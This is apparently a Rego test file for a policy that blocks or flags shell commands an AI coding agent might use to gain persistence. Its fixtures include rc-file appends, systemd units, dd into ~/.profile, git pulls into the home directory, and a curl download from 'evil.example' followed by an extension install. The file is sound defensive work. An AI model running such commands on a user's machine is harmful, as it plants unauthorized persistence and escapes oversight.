package claude_rego.policies.persistence_test

import data.claude_rego.policies.persistence
import rego.v1

_seg(id, argv, extra) := object.union({
	"id": id, "parent": null, "context": "top", "depth": 0, "pipeline": id, "operator": null,
	"argv": argv, "command": argv[0], "args": array.slice(argv, 1, count(argv)), "raw_words": argv,
	"wrappers": [], "assignments": {}, "redirects": [], "opaque": false, "opaque_reasons": [],
}, extra)

_path(raw, absolute, extra) := object.union({
	"raw": raw, "absolute": absolute, "resolved": absolute, "inside_project": startswith(absolute, "/home/dev/project/"),
	"resolved_inside_project": startswith(absolute, "/home/dev/project/"), "name": raw, "name_folded": raw,
	"absolute_folded": absolute, "traversal": false, "via_symlink": false, "segment": 0,
}, extra)

_input(segs, paths) := {"facts": {
	"event": "PreToolUse", "tool": {"name": "Bash", "class": "shell"}, "cwd": "/home/dev/project",
	"project_dir": "/home/dev/project", "home": "/home/dev", "paths": paths,
	"shell": {"segments": segs, "opaque": false, "opaque_reasons": []},
}}

test_append_to_bashrc_is_denied if {
	seg := _seg(0, ["echo", "x"], {"redirects": [{"op": ">>", "target": "/home/$USER/.bashrc", "fd": null, "dup": false}]})
	p := _path("/home/$USER/.bashrc", "/home/dev/.bashrc", {"source": "redirect", "field": ">>"})
	count(persistence.deny) == 1 with input as _input([seg], [p])
}

test_project_bashrc_is_allowed if {
	seg := _seg(0, ["echo", "x"], {"redirects": [{"op": ">>", "target": "dotfiles/.bashrc", "fd": null, "dup": false}]})
	p := _path("dotfiles/.bashrc", "/home/dev/project/dotfiles/.bashrc", {"source": "redirect", "field": ">>"})
	count(persistence.deny) == 0 with input as _input([seg], [p])
}

test_systemd_user_unit_is_denied if {
	seg := _seg(0, ["cp", "x.service", "/home/dev/.config/systemd/user/"], {})
	p := _path("/home/dev/.config/systemd/user/", "/home/dev/.config/systemd/user", {"source": "argument", "field": "argv"})
	count(persistence.deny) == 1 with input as _input([seg], [p])
}

test_systemctl_enable_asks if {
	count(persistence.ask) == 1 with input as _input([_seg(0, ["systemctl", "--user", "enable", "x"], {})], [])
}

test_systemctl_status_is_allowed if {
	count(persistence.ask) == 0 with input as _input([_seg(0, ["systemctl", "status", "x"], {})], [])
}

test_reading_bashrc_is_allowed if {
	p := _path("/home/dev/.bashrc", "/home/dev/.bashrc", {"source": "argument", "field": "argv"})
	count(persistence.deny) == 0 with input as _input([_seg(0, ["cat", "/home/dev/.bashrc"], {})], [p])
}

test_restarting_container_and_cluster_cronjob_ask if {
	seg := _seg(0, ["docker", "run", "-d", "--restart=always", "img"], {"restart_policy": "always"})
	count(persistence.ask) == 1 with input as _input([seg], [])
	cj := _seg(0, ["kubectl", "create", "cronjob", "x", "--image=a", "--schedule=* * * * *"], {})
	count(persistence.ask) == 1 with input as _input([cj], [])
	plain := _seg(0, ["docker", "run", "--rm", "img"], {})
	count(persistence.ask) == 0 with input as _input([plain], [])
}

test_editor_extension_from_a_file_asks if {
	count(persistence.ask) == 1 with input as _input([_seg(0, ["code", "--install-extension", "/tmp/e.vsix"], {})], [])
	count(persistence.ask) == 1 with input as _input([_seg(0, ["cursor", "--install-extension=/home/dev/Downloads/x.vsix"], {})], [])
	count(persistence.ask) == 0 with input as _input([_seg(0, ["code", "--install-extension", "ms-python.python"], {})], [])
}

test_rc_file_named_through_an_expansion_is_denied if {
	p := _path("~/.${SHELL##*/}rc", "/home/dev/.${SHELL##*/}rc", {"unresolved": true, "source": "redirect", "field": ">>"})
	seg := _seg(0, ["echo", "x"], {"redirects": [{"op": ">>", "target": "~/.${SHELL##*/}rc", "fd": null, "dup": false}]})
	count(persistence.deny) > 0 with input as _input([seg], [p])
}

test_the_projects_own_extension_build_is_allowed if {
	count(persistence.ask) == 0 with input as _input([_seg(0, ["code", "--install-extension", "./my-ext-0.1.0.vsix"], {})], [])
	dl := _seg(0, ["curl", "-sLo", "e.vsix", "https://evil.example/e.vsix"], {})
	inst := _seg(1, ["code", "--install-extension", "e.vsix"], {"operator": "&&"})
	count(persistence.ask) == 1 with input as _input([dl, inst], [])
}

# h12-c8b: `dd of=$HOME/.profile` is judged like `dd of=~/.profile` (the variable is expanded)
test_dd_of_home_variable_is_denied if {
	seg := _seg(0, ["dd", "if=x", "of=$HOME/.profile"], {})
	count(persistence.deny) == 1 with input as _input([seg], [])
}

test_dd_of_home_variable_inside_project_is_allowed if {
	seg := _seg(0, ["dd", "if=x", "of=$HOME/project/disk.img"], {})
	count(persistence.deny) == 0 with input as _input([seg], [])
}

# h12-c8b: a program's output option or in-program redirect (`sort -o F`, sed `w F`, awk
# `print > "F"`) reaches the pack as a `tee F` segment of context program_output
test_program_output_into_zshrc_is_denied if {
	top := _seg(0, ["sort", "-o", "/home/dev/.zshrc", "f"], {})
	out := _seg(1, ["tee", "/home/dev/.zshrc"], {"parent": 0, "context": "program_output", "depth": 1})
	p := _path("/home/dev/.zshrc", "/home/dev/.zshrc", {"source": "argument", "field": "argv", "segment": 1})
	count(persistence.deny) == 1 with input as _input([top, out], [p])
}

test_program_output_inside_project_is_allowed if {
	top := _seg(0, ["sort", "-o", "sorted.txt", "f"], {})
	out := _seg(1, ["tee", "sorted.txt"], {"parent": 0, "context": "program_output", "depth": 1})
	p := _path("sorted.txt", "/home/dev/project/sorted.txt", {"source": "argument", "field": "argv", "segment": 1})
	count(persistence.deny) == 0 with input as _input([top, out], [p])
}

# h12-c8b: a process detached beyond the session asks when it loops or runs a temp program
test_detached_temp_program_asks if {
	seg := _seg(0, ["/tmp/.x"], {"wrappers": ["setsid"], "detached": {"by": "setsid", "loop": false, "untrusted": ["/tmp/.x"]}})
	count(persistence.ask) == 1 with input as _input([seg], [])
}

test_detached_loop_asks if {
	seg := _seg(0, ["./poll.sh"], {"wrappers": ["nohup"], "detached": {"by": "nohup", "loop": true, "untrusted": []}})
	count(persistence.ask) == 1 with input as _input([seg], [])
}

test_detached_project_dev_server_passes if {
	seg := _seg(0, ["npm", "run", "dev"], {"wrappers": ["nohup"], "detached": {"by": "nohup", "loop": false, "untrusted": []}})
	count(persistence.ask) == 0 with input as _input([seg], [])
}

test_pm2_save_asks if {
	count(persistence.ask) == 1 with input as _input([_seg(0, ["pm2", "save"], {})], [])
}

test_pm2_list_passes if {
	count(persistence.ask) == 0 with input as _input([_seg(0, ["pm2", "list"], {})], [])
}

test_ssh_copy_id_asks if {
	every argv in [["ssh-copy-id", "-i", "./k.pub", "localhost"], ["ssh-copy-id", "dev@203.0.113.5"], ["ssh-copy-id", "-f", "-i", "/tmp/k", "-p", "2222", "h"]] {
		count(persistence.ask) == 1 with input as _input([_seg(0, argv, {})], [])
	}
	every argv in [["ssh-copy-id", "-n", "h"], ["ssh-copy-id", "-h"]] {
		count(persistence.ask) == 0 with input as _input([_seg(0, argv, {})], [])
	}
}

# s27: git commands that update a work tree at home (`git -C ~ pull URL`, `cd ~ && git pull`)
test_git_work_tree_at_home_is_denied if {
	count(persistence.deny) == 1 with input as _input([_seg(0, ["git", "-C", "~", "pull", "https://github.com/evil/dotfiles", "main"], {})], [])
	count(persistence.deny) == 1 with input as _input([_seg(0, ["git", "--work-tree=/home/dev", "checkout", "-f", "main"], {})], [])
	count(persistence.deny) == 1 with input as _input([_seg(0, ["git", "checkout", "main"], {"assignments": {"GIT_WORK_TREE": "/home/dev"}})], [])
	count(persistence.deny) == 1 with input as _input([_seg(0, ["git", "-C", "/home/dev/.config/autostart", "pull"], {})], [])
}

test_git_work_tree_after_cd_home_is_denied if {
	cd := _seg(0, ["cd", "/home/dev"], {})
	pull := _seg(1, ["git", "pull", "o", "main"], {"operator": "&&"})
	count(persistence.deny) == 1 with input as _input([cd, pull], [])
}

test_git_work_tree_elsewhere_is_allowed if {
	count(persistence.deny) == 0 with input as _input([_seg(0, ["git", "-C", "../other-repo", "pull"], {})], [])
	count(persistence.deny) == 0 with input as _input([_seg(0, ["git", "-C", "~", "status"], {})], [])
	count(persistence.deny) == 0 with input as _input([_seg(0, ["git", "pull"], {})], [])
	count(persistence.deny) == 0 with input as _input([_seg(0, ["git", "-c", "user.name=x", "commit", "-m", "pull"], {})], [])
}
